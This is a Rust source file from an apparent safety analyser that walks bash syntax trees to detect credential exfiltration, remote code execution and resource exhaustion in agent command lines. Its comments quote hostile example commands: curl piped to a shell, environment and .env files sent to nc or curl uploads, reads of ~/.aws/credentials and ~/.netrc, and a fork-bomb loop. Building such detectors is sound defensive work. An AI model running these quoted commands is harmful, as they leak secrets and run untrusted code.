//! Walking the bash syntax tree: every statement form, words (quote removal, escapes, ANSI-C
//! strings, expansions, substitutions), redirects, heredocs and pipelines.
//!
//! Only node kinds listed here are understood; any other kind, an `ERROR` node or a tree deeper
//! than the limit makes the result `unknown`. Substitutions are analysed wherever they occur,
//! because they execute even inside an `echo` argument or a heredoc fed to `cat`.

use tree_sitter::{Node, Parser};

use crate::model::{Context, ExecutedCommand, Limits, Verdict};
use crate::targets::{Cwd, Shape};

/// What a command writes to its stdout, as far as the *next* pipeline stage cares.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Producer {
    /// No input at all (a terminal, or nothing piped).
    Nothing,
    /// Known text (`echo …`, a heredoc, a here-string); `exact` is false when it has expansions.
    Text { text: String, exact: bool },
    /// Data from the network.
    Download,
    /// Data decoded at run time (base64, hex, compression).
    Decoded,
    /// A local file's content.
    LocalFile,
    /// Secret data (a credential file's content, the environment, a token), with where it
    /// came from (see `crate::flow`).
    Secret(crate::model::FlowSource),
    /// Paths found below these roots (`find`), for `xargs`.
    FindPaths(Vec<String>),
    /// The visible (not hidden) files below this root: what a search that skips hidden
    /// entries lists (`rg -l`, `fd`), for `xargs` (see `crate::listed`).
    VisibleFiles(String),
    /// Output that never ends (`yes`, `cat /dev/zero`): written to a file it fills the disk.
    Endless,
    /// Anything else.
    Opaque,
}

/// A resolved shell word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Word {
    /// The value after quote removal; unresolved parts keep their source text.
    pub text: String,
    /// False when some part is only known at run time.
    pub exact: bool,
    /// How the word relates to paths (plain, glob, "below this directory").
    pub shape: WordShape,
    /// Producers of command/process substitutions inside the word (for `sh -c "$(curl …)"`),
    /// and [`Producer::Secret`] for expansions of credential-shaped or secret-holding variables.
    pub substs: Vec<Producer>,
}

/// [`Shape`] without the `Copy` restriction issue; kept separate so words stay `Eq`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum WordShape {
    Exact,
    Glob,
    Descendants,
}

impl Word {
    pub(crate) fn lit(text: impl Into<String>) -> Self {
        Self {
            text: text.into(),
            exact: true,
            shape: WordShape::Exact,
            substs: Vec::new(),
        }
    }

    /// Whether the whole word is one process substitution (`>(cmd)`, `<(cmd)`): bash passes
    /// a `/dev/fd/N` pipe, never a file, and the command inside is walked and judged as its
    /// own command. The walker keeps such a word's source text verbatim (inexact, one
    /// producer), which is what this reads.
    pub(crate) fn is_process_substitution(&self) -> bool {
        !self.exact
            && self.substs.len() == 1
            && (self.text.starts_with(">(") || self.text.starts_with("<("))
            && self.text.ends_with(')')
    }

    /// Several paths written as one word: the files a search selects below `text`
    /// (`Descendants`: what `find`'s `{}` stands for) or a glob's matches (`Glob`).
    pub(crate) fn paths(text: &str, shape: WordShape) -> Self {
        Self {
            text: text.to_owned(),
            exact: true,
            shape,
            substs: Vec::new(),
        }
    }

    pub(crate) fn opaque(text: impl Into<String>) -> Self {
        Self {
            text: text.into(),
            exact: false,
            shape: WordShape::Exact,
            substs: Vec::new(),
        }
    }

    /// `words` joined by blanks into one word (a command line rebuilt to be read as shell
    /// code): exact only when every part is; what their substitutions produce is kept (a
    /// download in any part is code from the network).
    pub(crate) fn joined(words: &[Word]) -> Self {
        Self {
            text: words
                .iter()
                .map(|w| w.text.as_str())
                .collect::<Vec<_>>()
                .join(" "),
            exact: words.iter().all(|w| w.exact),
            shape: WordShape::Exact,
            substs: words.iter().flat_map(|w| w.substs.clone()).collect(),
        }
    }

    pub(crate) fn shape(&self) -> Shape {
        match self.shape {
            WordShape::Exact => Shape::Exact,
            WordShape::Glob => Shape::Glob,
            WordShape::Descendants => Shape::Descendants,
        }
    }
}

/// Lexical state that flows through a command line.
#[derive(Debug, Clone)]
pub(crate) struct Scope {
    pub cwd: Cwd,
    /// The line changed directory (`cwd` may differ from the call's).
    pub moved: bool,
    /// Variables, positional parameters, directory stack, aliases and functions (see
    /// `crate::state`).
    pub sh: crate::state::Shell,
    /// How we got here (`bash -c`, `$(…)`, `sudo`, …).
    pub via: Vec<String>,
    /// Inside `ssh`/`docker exec`: paths are on another machine.
    pub remote: bool,
    /// Inside a container of this machine's own Docker/Podman daemon (`docker compose exec db
    /// …`): a database reached on loopback there is the project's own (`crate::dbtarget`).
    pub local_container: bool,
    /// Variables assigned secret data earlier in the line (`T=$(cat ~/.aws/credentials)`).
    pub secret_vars: Vec<(String, crate::model::FlowSource)>,
    /// While `cwd` is unknown only because paths that end in different known directories
    /// joined (`mkdir -p D && cd D` then a newline: D on success, the start on failure):
    /// those directories. Read through [`Scope::cwd_candidates`], which checks that `cwd` is
    /// still the unknown they explain; every change of directory clears it.
    pub either: Option<Box<[std::path::PathBuf]>>,
}

impl Scope {
    /// The state at the start of a line run in `cwd`.
    pub(crate) fn new(cwd: Cwd) -> Self {
        Self {
            cwd,
            moved: false,
            sh: crate::state::Shell::new(),
            via: Vec::new(),
            remote: false,
            local_container: false,
            secret_vars: Vec::new(),
            either: None,
        }
    }
}

/// The analysis of a function body with unknown arguments, made where it is defined and kept
/// aside: it joins the result only if some call could not be followed (never called on the
/// line, called recursively, exported with `export -f`), since every call the line makes with
/// known arguments is analysed with them.
#[derive(Debug)]
pub(crate) struct Pending {
    /// Where its commands go in `Walker::commands` (source order).
    pub at: usize,
    pub commands: Vec<ExecutedCommand>,
    pub extra: Vec<Verdict>,
    /// A call on the line was followed with its arguments.
    pub called: bool,
    /// Some call could not be followed: the generic analysis counts.
    pub forced: bool,
}

/// Positions of the walker's buffers, to drop what a trial walk recorded (see
/// `Walker::loop_statement`).
#[derive(Debug, Clone, Copy)]
pub(crate) struct Mark {
    commands: usize,
    extra: usize,
    pending: usize,
}

/// The analysis state for one top-level call. Holds the parser so nested sources (`bash -c`,
/// `eval`, heredocs) reuse it.
pub(crate) struct Walker<'a> {
    pub parser: &'a mut Parser,
    /// Parsers of the interpreter languages, each created on first use.
    pub code: &'a mut crate::code::Parsers,
    pub ctx: &'a Context,
    pub limits: Limits,
    pub commands: Vec<ExecutedCommand>,
    /// Verdicts not tied to one command (limits hit, nested parse errors).
    pub extra: Vec<Verdict>,
    pub recursion: usize,
    /// `/dev/tcp|udp` endpoints of the redirects of the statement being walked (drained by
    /// the statement, see `crate::flow`).
    pub sockets: Vec<String>,
    /// Files written by `>`-style redirects of the statement being walked (drained likewise).
    pub written: Vec<Word>,
    /// Where files written earlier in the line came from (secret data, the network): files
    /// outlive subshells and pipeline stages, so this is per line, not per scope.
    pub files: crate::flow::LineState,
    /// Function bodies analysed with unknown arguments, committed by [`Walker::finish`] when
    /// some call could not be followed.
    pub pending: Vec<Pending>,
    /// Ids of the functions being called (a call already on this stack is recursive).
    pub calling: Vec<usize>,
    /// Loop bodies still allowed to be unrolled per value (shared by the whole line).
    pub unroll_budget: usize,
    /// Resolving an assignment's value: unquoted expansions are not split there.
    pub no_split: bool,
    /// The value of a variable that may also be empty ([`crate::state::Val::OrEmpty`])
    /// expanded in the word being built: the word resolves to it only when it is that
    /// expansion alone (see [`Walker::settle_maybe_empty`]).
    pub maybe_empty: Option<String>,
    /// Indices in `commands` of the redirect records (`> file`) of the statement being walked
    /// (drained by the statement, which knows what it writes).
    pub write_records: Vec<usize>,
    /// The secret sources the last interpreter snippet read (its environment, a credential
    /// file): what it prints may carry them (`python3 -c 'print(os.environ)' | nc …`).
    pub code_sources: Vec<crate::model::FlowSource>,
    /// The file names a listing feeds the `while` loop being walked (`git ls-files | while
    /// read -r f`): what `read` there binds (see `Walker::shell_builtin`).
    pub group_items: Option<Word>,
    /// The secret a group of commands reads as its standard input (`while read l; do …; done
    /// < .env`, `cat .env | { read a; … }`): what `read`/`mapfile` inside assign carries it.
    pub group_secret: Option<crate::model::FlowSource>,
    /// The standard input of the shell program being walked: nothing for the agent's own line,
    /// and for a nested program what its shell was given (`sh -c 'curl -T - URL' < .env`,
    /// `env | bash -c 'nc host 4444'`, `split --filter=CMD .env`). A statement with no input
    /// of its own reads it, as a child process inherits its shell's descriptor 0. Invariant:
    /// restored when the nested program ends (see [`Walker::with_shell_stdin`]).
    pub shell_stdin: Producer,
    /// What the last code string [`Walker::analyze_source`] read wrote to its output: a plain
    /// command's output (`bash -c printenv`, `ssh host 'cat ~/.netrc'`), or a secret any
    /// statement of a longer string printed (`bash -c 'printenv; true'`). The running shell's
    /// or remote's output is its statements', so a secret one prints reaches whatever reads
    /// the outer command (`… | curl -d @-`). `None` for any other string.
    pub code_output: Option<Producer>,
    /// The output of the last statement [`Walker::stmt`] walked (for `code_output` when the
    /// fast path is off: the grammar's reading of the same one-command string).
    pub last_stmt_out: Option<Producer>,
    /// A secret a statement of the compound command being walked printed to the command's
    /// own output (`{ echo "$tok"; }`, a loop body's `printf '%s' "$l"`): the compound
    /// command's output carries it to what it is piped into.
    pub group_out: Option<crate::model::FlowSource>,
    /// How many enclosing constructs take the output of what is being walked (a pipeline's
    /// stages, a compound command, a substitution): above zero, what a statement prints is
    /// data for them, not text the agent reads (see `Walker::judge_shown`). Invariant: every
    /// increment is undone when its construct ends.
    pub captured: u32,
    /// What a `>(…)` written by the command being resolved receives: its standard input when
    /// that is secret or downloaded (`tee >(curl -d @- URL) < KEY`, `curl URL | tee >(sh)`
    /// copy their input into the substitution). Set by `Walker::command` while it resolves
    /// its words.
    pub psub_input: Option<Producer>,
    /// `trap` handlers waiting for the end of their shell (see `Walker::run_exit_traps`).
    pub exit_traps: Vec<crate::deferred::ExitTrap>,
    /// The shell process being walked (0: the line's own shell; see `Walker::in_shell`).
    pub shell: u32,
    /// Shell processes numbered so far.
    pub shells: u32,
    /// Plain-words lines skip the grammar (see `crate::plain_words`; off only in the tests
    /// that compare both paths).
    pub fast_path: bool,
}

/// Most loop-body walks one line may unroll (`for d in a b c`), across all its loops.
const UNROLL_BUDGET: usize = 64;

impl std::fmt::Debug for Walker<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Walker")
            .field("commands", &self.commands.len())
            .finish_non_exhaustive()
    }
}

/// Statement kinds the walker dispatches on.
/// The file of a command substitution's body that is one input redirect and nothing else
/// (`$(< FILE)`, bash's shorthand for `$(cat FILE)`); `None` for any other body. A descriptor
/// other than 0 (`$(3< f)`) is an ordinary (empty) command, so only `<` on fd 0 counts.
fn read_only_redirect<'t>(node: Node<'t>, src: &str) -> Option<Node<'t>> {
    if node.kind() != "file_redirect" {
        return None;
    }
    let mut cursor = node.walk();
    let mut operator = None;
    let mut file = None;
    for child in node.children(&mut cursor) {
        match child.kind() {
            "file_descriptor" if text(child, src) != "0" => return None,
            "file_descriptor" => {}
            _ if !child.is_named() => operator = Some(child.kind()),
            _ if file.is_none() => file = Some(child),
            _ => return None,
        }
    }
    file.filter(|_| operator == Some("<"))
}

/// Whether a redirect gives standard input (`< f`, `0< f`, `<&3`, `0<&3`): `3< f` opens another
/// descriptor.
pub(crate) fn redirects_stdin(node: Node<'_>, src: &str) -> bool {
    if node.kind() != "file_redirect" {
        return false;
    }
    let mut cursor = node.walk();
    let mut operator = "";
    let mut descriptor = None;
    for child in node.children(&mut cursor) {
        if child.kind() == "file_descriptor" && operator.is_empty() {
            descriptor = Some(text(child, src));
        } else if !child.is_named() && operator.is_empty() {
            operator = child.kind();
        }
    }
    matches!(operator, "<" | "<&") && descriptor.is_none_or(|d| d == "0")
}

/// The `>(…)` a redirect sends standard output (or everything: `&>`) into: `> >(cmd)`,
/// `1> >(cmd)`, `>> >(cmd)`. `None` for any other redirect, including `2> >(cmd)` (what a
/// statement prints on its error stream is not what its output carries).
fn output_substitution<'t>(node: Node<'t>, src: &str) -> Option<Node<'t>> {
    if node.kind() != "file_redirect" {
        return None;
    }
    let mut cursor = node.walk();
    let mut operator = "";
    let mut descriptor = None;
    let mut destination = None;
    for child in node.children(&mut cursor) {
        match child.kind() {
            "file_descriptor" if operator.is_empty() => descriptor = Some(text(child, src)),
            "process_substitution" => destination = Some(child),
            _ if !child.is_named() && operator.is_empty() => operator = child.kind(),
            _ => {}
        }
    }
    let stdout = matches!(operator, "&>" | "&>>")
        || (matches!(operator, ">" | ">>" | ">|") && descriptor.is_none_or(|d| d == "1"));
    destination.filter(|d| stdout && text(*d, src).starts_with(">("))
}

/// A compound command's output given the secret it is taken to print: that secret when
/// the output is otherwise unknown (or, with `silent_too`, nothing known).
fn carrying(out: Producer, secret: Option<crate::model::FlowSource>, silent_too: bool) -> Producer {
    match secret {
        Some(source) if out == Producer::Opaque || (silent_too && out == Producer::Nothing) => {
            Producer::Secret(source)
        }
        _ => out,
    }
}

/// Compound commands: their output is what the statements of their bodies print.
fn is_group(kind: &str) -> bool {
    matches!(
        kind,
        "while_statement"
            | "for_statement"
            | "c_style_for_statement"
            | "if_statement"
            | "case_statement"
            | "compound_statement"
            | "subshell"
    )
}

/// Whether a statement sends its standard output to a file (`… > f`, `>> f`, `&> f`,
/// `1> f`): then nothing it prints reaches the enclosing command's output.
fn stdout_to_file(node: Node<'_>, src: &str) -> bool {
    if node.kind() != "redirected_statement" {
        return false;
    }
    let mut cursor = node.walk();
    node.children_by_field_name("redirect", &mut cursor)
        .any(|r| {
            if r.kind() != "file_redirect" {
                return false;
            }
            let mut inner = r.walk();
            let mut fd = None;
            let mut op = "";
            for c in r.children(&mut inner) {
                if c.kind() == "file_descriptor" {
                    fd = Some(text(c, src));
                } else if !c.is_named() && op.is_empty() {
                    op = c.kind();
                }
            }
            matches!(op, ">" | ">>" | ">|" | "&>" | "&>>") && fd.is_none_or(|d| d == "1")
                || matches!(op, "&>" | "&>>")
        })
}

pub(crate) fn is_statement(kind: &str) -> bool {
    matches!(
        kind,
        "command"
            | "pipeline"
            | "list"
            | "redirected_statement"
            | "subshell"
            | "compound_statement"
            | "if_statement"
            | "while_statement"
            | "for_statement"
            | "c_style_for_statement"
            | "case_statement"
            | "function_definition"
            | "negated_command"
            | "declaration_command"
            | "unset_command"
            | "test_command"
            | "variable_assignment"
            | "variable_assignments"
            | "ERROR"
    )
}

/// `node`'s children with their field names, read in one cursor pass
/// (`Node::field_name_for_child` walks the children again for each index).
pub(crate) fn children_with_fields(node: Node<'_>) -> Vec<(Node<'_>, Option<&'static str>)> {
    let mut out = Vec::with_capacity(node.child_count());
    let mut cursor = node.walk();
    if cursor.goto_first_child() {
        loop {
            out.push((cursor.node(), cursor.field_name()));
            if !cursor.goto_next_sibling() {
                break;
            }
        }
    }
    out
}

pub(crate) fn text<'s>(node: Node<'_>, src: &'s str) -> &'s str {
    src.get(node.byte_range()).unwrap_or("")
}

impl<'a> Walker<'a> {
    pub(crate) fn new(
        parser: &'a mut Parser,
        code: &'a mut crate::code::Parsers,
        ctx: &'a Context,
        limits: Limits,
    ) -> Self {
        Self {
            parser,
            code,
            ctx,
            limits,
            // Most lines run one or two commands; two fit the allocator's small-block cache.
            commands: Vec::with_capacity(2),
            extra: Vec::new(),
            recursion: 0,
            sockets: Vec::new(),
            written: Vec::new(),
            files: crate::flow::LineState::seeded(ctx),
            pending: Vec::new(),
            calling: Vec::new(),
            unroll_budget: UNROLL_BUDGET,
            no_split: false,
            maybe_empty: None,
            write_records: Vec::new(),
            code_sources: Vec::new(),
            exit_traps: Vec::new(),
            group_secret: None,
            shell_stdin: Producer::Nothing,
            code_output: None,
            last_stmt_out: None,
            group_items: None,
            group_out: None,
            captured: 0,
            psub_input: None,
            shell: 0,
            shells: 0,
            fast_path: true,
        }
    }

    /// The line's commands and extra verdicts, with the analyses of function bodies that some
    /// call could not follow put back where the functions were defined (see [`Pending`]), and
    /// the files commands read as stdin by index into those commands (shifted past the
    /// bodies put back, so each still names its own command).
    pub(crate) fn finish(
        mut self,
    ) -> (
        Vec<ExecutedCommand>,
        Vec<Verdict>,
        Vec<(usize, std::path::PathBuf)>,
    ) {
        self.run_orphan_traps();
        let mut stdin_files = std::mem::take(&mut self.files.stdin_files);
        if self.pending.is_empty() {
            return (self.commands, self.extra, stdin_files);
        }
        let pending = std::mem::take(&mut self.pending);
        for p in pending.into_iter().rev() {
            if p.called && !p.forced {
                continue;
            }
            let at = p.at.min(self.commands.len());
            let n = p.commands.len();
            for (i, _) in &mut stdin_files {
                if *i >= at {
                    *i += n;
                }
            }
            self.commands.splice(at..at, p.commands);
            self.extra.extend(p.extra);
        }
        (self.commands, self.extra, stdin_files)
    }

    /// Where the buffers stand (for [`Self::rewind`]).
    pub(crate) fn mark(&self) -> Mark {
        Mark {
            commands: self.commands.len(),
            extra: self.extra.len(),
            pending: self.pending.len(),
        }
    }

    /// Drops what was recorded since `mark` (a trial walk of a loop body).
    pub(crate) fn rewind(&mut self, mark: Mark) {
        self.commands.truncate(mark.commands);
        self.extra.truncate(mark.extra);
        self.pending.truncate(mark.pending);
        self.write_records.retain(|i| *i < mark.commands);
    }
}

impl Walker<'_> {
    pub(crate) fn unknown(&mut self, reason: impl Into<String>) {
        self.extra.push(Verdict::unknown(reason));
    }

    /// Runs `walk` with `stdin` as the standard input of the nested shell program it walks
    /// (see [`Walker::shell_stdin`]), restoring the outer program's afterwards.
    pub(crate) fn with_shell_stdin<R>(
        &mut self,
        stdin: Producer,
        walk: impl FnOnce(&mut Self) -> R,
    ) -> R {
        let outer = std::mem::replace(&mut self.shell_stdin, stdin);
        let out = walk(self);
        self.shell_stdin = outer;
        out
    }

    /// Parses and walks `source` as a nested shell program (`bash -c`, `eval`, heredoc to a
    /// shell), bounded by the recursion limit.
    pub(crate) fn analyze_source(&mut self, source: &str, scope: &mut Scope, via: &str) {
        self.code_output = None;
        if self.recursion >= self.limits.max_recursion {
            self.unknown(format!(
                "nesting of shells deeper than {}",
                self.limits.max_recursion
            ));
            return;
        }
        if source.len() > self.limits.max_input_bytes {
            self.unknown("nested command too large to analyse");
            return;
        }
        if let Err(refused) = crate::prescan(source, &self.limits) {
            self.unknown(refused.reason());
            return;
        }
        // `bash -c 'git push --force origin main'`: plain words skip the grammar here too
        // (see `crate::plain_words`; aliases and functions are resolved on the argv).
        if self.fast_path
            && let Some(words) = crate::plain_words(source, true)
        {
            let argv: Vec<Word> = words.into_iter().map(Word::lit).collect();
            self.recursion += 1;
            scope.via.push(via.to_owned());
            let before = self.commands.len();
            let out = self.exec(&argv, scope, self.shell_stdin.clone());
            self.judge_shown(&out, before, scope);
            self.code_output = Some(out);
            scope.via.pop();
            self.recursion -= 1;
            return;
        }
        // `bash -c 'npm install && npm test'`, `sh -c 'curl … | sh'`: plain lists and
        // pipelines too (see `crate::plain_list`; `block(…, 0)` below walks at the depths
        // `plain_line` uses).
        // Every statement of the string prints to the runner's output: a secret any of them
        // prints (`bash -c 'printenv; true'`) is the string's output (see `Walker::group_out`,
        // saved here so that the outer group's own record is untouched).
        let outer_group = self.group_out.take();
        if self.fast_path
            && let Some(line) = crate::plain_list::PlainLine::split(source)
        {
            self.recursion += 1;
            scope.via.push(via.to_owned());
            self.plain_line(&line, scope);
            scope.via.pop();
            self.recursion -= 1;
            self.take_printed(outer_group);
            return;
        }
        // The string the fast path would have read as one plain command: its output is the
        // code string's (see `Walker::code_output`), on this path as on the fast one.
        let plain_single = !self.fast_path && crate::plain_words(source, true).is_some();
        // A `<>` redirection is bash the grammar lacks (see `flow::without_rw_redirects`).
        let Some((tree, repaired)) = crate::flow::parse_repairing(self.parser, source) else {
            self.group_out = outer_group;
            self.unknown("the parser gave no tree");
            return;
        };
        let source = repaired.as_deref().unwrap_or(source);
        let root = tree.root_node();
        if root.has_error() {
            self.group_out = outer_group;
            self.unknown(format!("{via} string does not parse as bash"));
            return;
        }
        self.recursion += 1;
        scope.via.push(via.to_owned());
        self.block(root, source, scope, 0);
        if plain_single {
            self.code_output = self.last_stmt_out.take();
        }
        self.take_printed(outer_group);
        scope.via.pop();
        self.recursion -= 1;
    }

    /// Ends a nested program's walk: a secret one of its statements printed becomes the code
    /// string's output unless the string's own output is already one, and the enclosing
    /// group's record (`outer`) is put back.
    fn take_printed(&mut self, outer: Option<crate::model::FlowSource>) {
        let printed = std::mem::replace(&mut self.group_out, outer);
        if let Some(source) = printed
            && !matches!(self.code_output, Some(Producer::Secret(_)))
        {
            self.code_output = Some(Producer::Secret(source));
        }
    }

    pub(crate) fn too_deep(&mut self, depth: usize) -> bool {
        if depth > self.limits.max_tree_depth {
            self.unknown("syntax tree nested too deeply");
            return true;
        }
        if self.commands.len() > self.limits.max_commands {
            self.unknown("too many commands");
            return true;
        }
        false
    }

    /// Walks every statement child of a block-like node. A statement put in the background
    /// (`cmd &`) runs in a subshell: its `cd` and assignments do not reach what follows.
    pub(crate) fn block(&mut self, node: Node<'_>, src: &str, scope: &mut Scope, depth: usize) {
        let amp = kind_ids().ampersand;
        let mut cursor = node.walk();
        let mut children = node.children(&mut cursor).peekable();
        while let Some(child) = children.next() {
            if !child.is_named() {
                continue;
            }
            let background = children
                .peek()
                .is_some_and(|n| !n.is_named() && n.kind_id() == amp && amp != 0);
            if background {
                let mut inner = scope.clone();
                self.in_shell(&mut inner, |w, inner| w.stmt(child, src, inner, depth + 1));
            } else {
                self.stmt(child, src, scope, depth + 1);
            }
        }
    }

    /// Walks one statement with no piped input.
    pub(crate) fn stmt(&mut self, node: Node<'_>, src: &str, scope: &mut Scope, depth: usize) {
        let before = self.commands.len();
        let out = self.stmt_io(node, src, scope, self.shell_stdin.clone(), depth);
        if !stdout_to_file(node, src) {
            self.judge_shown(&out, before, scope);
        }
        if !self.fast_path {
            self.last_stmt_out = Some(out.clone());
        }
        // After `exec > >(sink)`, what a statement prints to the shell's output goes to the sink.
        if let (Producer::Secret(source), Some(sink)) = (&out, &self.files.exec_sink)
            && !scope.remote
            && !stdout_to_file(node, src)
        {
            let flow = crate::model::Flow {
                source: source.clone(),
                sink: sink.clone(),
            };
            let argv = vec![text(node, src).to_owned()];
            self.record_flow(argv, scope, crate::taxonomy::ids::CRED_EXFILTRATE, flow);
        }
        // A statement of a body prints to the group's own output unless it sends its stdout
        // to a file: a secret it prints is what the group prints (see `Walker::group_out`).
        if let Producer::Secret(source) = out
            && self.group_out.is_none()
            && !stdout_to_file(node, src)
        {
            self.group_out = Some(source);
        }
    }

    /// Walks one statement with `stdin`; returns what it writes to stdout.
    pub(crate) fn stmt_io(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        stdin: Producer,
        depth: usize,
    ) -> Producer {
        if self.too_deep(depth) {
            return Producer::Opaque;
        }
        if is_group(node.kind()) {
            // `{ echo "$tok"; } | curl -d @- …`, `for k in …; do echo "$k"; done | nc …`:
            // what the body's statements print is the group's output.
            let outer_out = self.group_out.take();
            // `while read l; do …; done < .env`: the commands inside read the group's input.
            let reads = matches!(
                node.kind(),
                "while_statement" | "compound_statement" | "subshell"
            ) && stdin != Producer::Nothing;
            let outer_secret = reads.then(|| {
                let group = match &stdin {
                    Producer::Secret(source) => Some(source.clone()),
                    _ => None,
                };
                std::mem::replace(&mut self.group_secret, group)
            });
            let outer_items = reads.then(|| {
                let items = Self::listing_items(&stdin);
                std::mem::replace(&mut self.group_items, items)
            });
            self.captured += 1;
            let mut out = self.stmt_kind(node, src, scope, stdin, depth);
            self.captured -= 1;
            if let Some(outer) = outer_items {
                self.group_items = outer;
            }
            if let Some(outer) = outer_secret {
                // What the group prints may be the secret it read (`while read l; do printf
                // '%s\n' "$l"; done < .env | curl -d @- …`).
                let read = std::mem::replace(&mut self.group_secret, outer);
                out = carrying(out, read, false);
            }
            let printed = std::mem::replace(&mut self.group_out, outer_out);
            return carrying(out, printed, true);
        }
        self.stmt_kind(node, src, scope, stdin, depth)
    }

    fn stmt_kind(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        stdin: Producer,
        depth: usize,
    ) -> Producer {
        match node.kind() {
            "command" => self.command(node, src, scope, stdin),
            "pipeline" => self.pipeline(node, src, scope, stdin, depth),
            // What a list prints is every operand's output, not only the last's: only a secret
            // among them is known to be in it (see `ListOutput`).
            "list" => self
                .list(node, src, scope, stdin, &[], depth)
                .secret_or(|_| Producer::Opaque),
            "redirected_statement" => self.redirected(node, src, scope, stdin, depth),
            "subshell" => {
                let mut inner = scope.clone();
                self.in_shell(&mut inner, |w, inner| w.block(node, src, inner, depth));
                Producer::Opaque
            }
            "compound_statement" | "do_group" | "else_clause" | "elif_clause" | "program" => {
                self.block(node, src, scope, depth);
                Producer::Opaque
            }
            "while_statement" | "for_statement" | "c_style_for_statement" => {
                // An endless loop that forks on every turn is a fork bomb, and so is a loop
                // with a huge literal count (`for i in $(seq 100000); do sleep 999 & done`);
                // one that only spins no-op builtins burns a core. Either is recorded as the
                // loop itself.
                let verdict = if infinite_background_loop(node, src) || spawn_flood(node, src) {
                    Some(crate::taxonomy::ids::RCE_FORK_BOMB.verdict())
                } else if busy_loop(node, src) {
                    Some(crate::taxonomy::ids::RES_CPU_EXHAUST.verdict())
                } else if endless_body(node, src)
                    .is_some_and(|body| crate::hazards::endless_growth(body, src))
                {
                    Some(crate::taxonomy::ids::RES_DISK_FILL.verdict())
                } else {
                    None
                };
                match verdict {
                    Some(verdict) => {
                        self.mixed(node, src, scope, depth);
                        self.commands.push(ExecutedCommand {
                            argv: vec![text(node, src).chars().take(60).collect()],
                            via: scope.via.clone(),
                            verdict,
                            effects: Vec::new(),
                            cwd: scope.cwd_path(),
                            stdin: None,
                            writes: None,
                            output_discarded: false,
                        });
                    }
                    None if node.kind() == "for_statement" => {
                        self.for_statement(node, src, scope, depth);
                    }
                    None => self.loop_statement(node, src, scope, depth, None, None),
                }
                Producer::Opaque
            }
            "if_statement" => {
                self.if_statement(node, src, scope, depth);
                Producer::Opaque
            }
            "case_statement" => {
                self.case_statement(node, src, scope, depth);
                Producer::Opaque
            }
            "negated_command" | "case_item" | "test_command" => {
                self.mixed(node, src, scope, depth);
                Producer::Opaque
            }
            "function_definition" => {
                self.function(node, src, scope, depth);
                Producer::Nothing
            }
            "declaration_command"
            | "variable_assignment"
            | "variable_assignments"
            | "unset_command" => self.assignments(node, src, scope, depth),
            "comment" | "heredoc_body" | "heredoc_start" | "heredoc_end" => Producer::Nothing,
            "ERROR" => {
                self.unknown("part of the command does not parse");
                Producer::Opaque
            }
            other => {
                // Words in statement position (e.g. the `in` list of `for`) only matter for
                // the substitutions they contain.
                if matches!(
                    other,
                    "word"
                        | "string"
                        | "raw_string"
                        | "concatenation"
                        | "number"
                        | "simple_expansion"
                        | "expansion"
                        | "command_substitution"
                        | "process_substitution"
                        | "ansi_c_string"
                        | "translated_string"
                        | "arithmetic_expansion"
                        | "variable_name"
                        | "extglob_pattern"
                        | "binary_expression"
                        | "unary_expression"
                        | "parenthesized_expression"
                        | "postfix_expression"
                        | "ternary_expression"
                        | "regex"
                        | "test_operator"
                        | "brace_expression"
                        | "array"
                        | "subscript"
                        | "special_variable_name"
                        | "file_descriptor"
                ) {
                    self.scan_substitutions(node, src, scope, depth);
                    if is_arithmetic(other) {
                        crate::control::arithmetic(node, src, scope);
                    }
                } else {
                    self.unknown(format!("unsupported construct `{other}`"));
                }
                Producer::Opaque
            }
        }
    }

    /// Nodes that mix statements and expressions (`if`, `while`, `for`, `case`, `[[ ]]`).
    pub(crate) fn mixed(&mut self, node: Node<'_>, src: &str, scope: &mut Scope, depth: usize) {
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            if is_statement(child.kind())
                || matches!(
                    child.kind(),
                    "compound_statement" | "do_group" | "else_clause" | "elif_clause" | "case_item"
                )
            {
                self.stmt(child, src, scope, depth + 1);
            } else {
                self.scan_substitutions(child, src, scope, depth + 1);
                if is_arithmetic(child.kind()) {
                    crate::control::arithmetic(child, src, scope);
                }
            }
        }
    }

    /// Analyses every command/process substitution below `node` (they run wherever they are).
    pub(crate) fn scan_substitutions(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
    ) {
        if self.too_deep(depth) {
            return;
        }
        match node.kind() {
            "command_substitution" | "process_substitution" => {
                let _ = self.substitution(node, src, scope, depth);
            }
            "ERROR" => self.unknown("part of the command does not parse"),
            _ => {
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.scan_substitutions(child, src, scope, depth + 1);
                }
            }
        }
    }

    /// Runs the statements of `$(…)`, `` `…` `` or `<(…)`; returns what they print.
    pub(crate) fn substitution(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
    ) -> Producer {
        // `>(cmd)` reads what the outer command writes into it (`curl … | tee >(sh)` runs the
        // download): data only known at run time, so its statements' input is opaque rather
        // than nothing — or the secret or download the outer command copies into it (`tee
        // >(curl -d @- URL) < KEY`, see `Walker::psub_input`).
        let input = if text(node, src).starts_with(">(") {
            self.psub_input.clone().unwrap_or(Producer::Opaque)
        } else {
            Producer::Nothing
        };
        self.fed_substitution(node, src, scope, depth, &input)
    }

    /// Runs the statements of a substitution with `input` as their standard input; returns
    /// what they print. A `> >(cmd)` redirect feeds `cmd` what its statement printed (see
    /// `Walker::with_redirects`).
    pub(crate) fn fed_substitution(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
        input: &Producer,
    ) -> Producer {
        let label = if node.kind() == "process_substitution" {
            "<(…)"
        } else {
            "$(…)"
        };
        let mut inner = scope.clone();
        inner.via.push(label.to_owned());
        self.captured += 1;
        let out = self.in_shell(&mut inner, |w, inner| {
            let mut last = Producer::Nothing;
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                let stdin = input.clone();
                last = match read_only_redirect(child, src) {
                    Some(file) => w.read_file_output(file, src, inner, depth + 1),
                    None => w.stmt_io(child, src, inner, stdin, depth + 1),
                };
            }
            last
        });
        self.captured -= 1;
        out
    }

